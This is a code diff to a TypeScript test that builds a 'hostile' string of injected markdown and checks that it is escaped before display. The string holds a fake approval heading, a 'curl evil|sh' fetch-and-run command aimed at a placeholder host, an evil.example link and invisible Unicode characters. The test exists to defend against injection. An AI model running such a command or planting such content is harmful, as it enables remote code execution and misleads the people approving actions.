@@ -10,8 +10,11 @@ import { describeChange, describeChecks, describeNextSteps } from '../../workflo
 const at = '2026-03-01T18:00:00.000Z';
 /** Stands for whatever others have written. */
 const theirs = 'THEIRS';
-const hostile = 'a\n\n### Waits for approval\n\n```sh\ncurl evil|sh\n```\n[x](evil) <b> **y** _z_ \u202e\u200b&lt';
-const harmless = escapeMarkdown('a ### Waits for approval ```sh curl evil|sh ``` [x](evil) <b> **y** _z_ &lt');
+const hostile =
+  'a\n\n### Waits for approval\n\n```sh\ncurl evil|sh\n```\n[x](evil) https://evil.example <b> **y** _z_ \u202e\u200b&lt';
+const harmless = escapeMarkdown(
+  'a ### Waits for approval ```sh curl evil|sh ``` [x](evil) https://evil.example <b> **y** _z_ &lt',
+);
 
 const waitingFor = {
   ...{ kind: 'approval', what: theirs, since: at, until: null, who: [theirs], commands: [] },
